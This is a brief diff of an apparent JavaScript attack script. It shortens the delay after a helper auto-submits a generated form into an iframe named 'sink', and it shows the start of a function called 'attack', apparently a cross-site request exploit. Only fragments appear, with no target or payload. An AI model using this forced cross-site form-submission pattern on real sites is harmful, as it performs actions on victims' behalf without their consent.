@@ -41,7 +41,7 @@ const form = (path, type, fields) => {
     for (const [name, value] of Object.entries(fields)) it.append(Object.assign(document.createElement("input"), { name, value }));
     document.body.append(it);
     it.submit();
-    return later(0.2);
+    return later(0.05);
 };
 const attack = async () => {
     document.body.append(Object.assign(document.createElement("iframe"), { name: "sink" }));
